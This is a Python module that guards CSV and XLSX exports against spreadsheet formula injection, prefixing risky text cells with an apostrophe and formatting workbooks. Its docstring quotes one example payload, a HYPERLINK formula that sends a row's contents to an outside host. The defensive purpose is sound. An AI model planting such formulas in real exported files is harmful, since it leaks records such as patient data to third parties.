"""Every CSV and XLSX the product writes goes through here, so no imported text runs as a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
carriage return lead to the same through some importers): a patient named
``=HYPERLINK("http://host/?"&A1)`` would send the row elsewhere when the file is opened. Such
text cells get a leading apostrophe, which spreadsheets show as text (OWASP, "CSV Injection").
Numbers stay numbers, and text that is a plain number (``-2``, ``-1.5 %``) is left as it is: it
is no formula and reads the same.
"""

import io
import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\$?\d[\d,]*(\.\d+)?\s?%?")


def neutralise_cell(value):
    """``value`` with an apostrophe in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas; numeric columns untouched."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_datetime64_any_dtype(out[column])):
            # a list, not Series.map: map would turn a column of mixed ints and floats into floats
            out[column] = pd.Series([neutralise_cell(v) for v in out[column]], index=out.index, dtype=object)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def export_csv(frame: pd.DataFrame, path_or_buffer=None, **to_csv) -> str | None:
    """``frame.to_csv(index=False, ...)`` with formulas neutralised: the text, or None when written to ``path_or_buffer``.

    Lines end with CRLF (RFC 4180), so a cell holding a carriage return or a line feed is quoted
    (Python's csv module quotes only the characters of the line terminator) and cannot start a row.
    """
    return neutralise_formulas(frame).to_csv(path_or_buffer, index=False, lineterminator="\r\n", **to_csv)


def export_xlsx(tables: dict[str, pd.DataFrame], number_formats: dict[str, dict] | None = None) -> bytes:
    """A workbook with one sheet per table (openpyxl), formulas neutralised, made to be read:
    numbers stay numeric cells, a bold wrapped header row that stays in view (frozen panes), column
    widths from the content and number formats. ``number_formats``: sheet -> column -> an Excel
    number format (one for the column, or a list with one per row); columns not named get
    ``$#,##0.00`` when their name says USD, ``#,##0`` for whole numbers and ``#,##0.0`` for other
    numbers."""
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in tables.items():
            sheet_name = name[:31]
            neutralise_formulas(frame).to_excel(writer, sheet_name=sheet_name, index=False)
            sheet = writer.sheets[sheet_name]
            formats = (number_formats or {}).get(name, {})
            for i, column in enumerate(frame.columns, start=1):
                fmt = formats.get(column, _default_format(frame[column], column))
                width = len(str(column))
                for r, cell in enumerate(sheet.iter_rows(min_row=2, min_col=i, max_col=i), start=0):
                    cell = cell[0]
                    row_fmt = fmt[r] if isinstance(fmt, list) else fmt
                    if row_fmt and isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                        cell.number_format = row_fmt
                    width = max(width, _shown_width(cell.value))
                letter = get_column_letter(i)
                sheet.column_dimensions[letter].width = min(max(width + 2, 8), 60)
                if width > 58:
                    for (cell,) in sheet.iter_rows(min_row=2, min_col=i, max_col=i):
                        cell.alignment = Alignment(wrap_text=True, vertical="top")
            for cell in sheet[1]:
                cell.font = Font(bold=True)
                cell.fill = PatternFill("solid", fgColor="F0F0F0")
                cell.alignment = Alignment(wrap_text=True, vertical="top")
            sheet.freeze_panes = "A2"
            if len(frame.columns):
                sheet.auto_filter.ref = f"A1:{get_column_letter(len(frame.columns))}{max(len(frame) + 1, 1)}"
    return buffer.getvalue()


def _default_format(series: pd.Series, column) -> str | None:
    if pd.api.types.is_bool_dtype(series) or not pd.api.types.is_numeric_dtype(series):
        return None
    if "usd" in str(column).lower():
        return "$#,##0.00;-$#,##0.00"
    return "#,##0" if pd.api.types.is_integer_dtype(series) else "#,##0.0"


def _shown_width(value) -> int:
    if value is None:
        return 0
    if isinstance(value, float):
        return len(f"{value:,.2f}")
    if isinstance(value, int):
        return len(f"{value:,}") + 1
    return len(str(value))
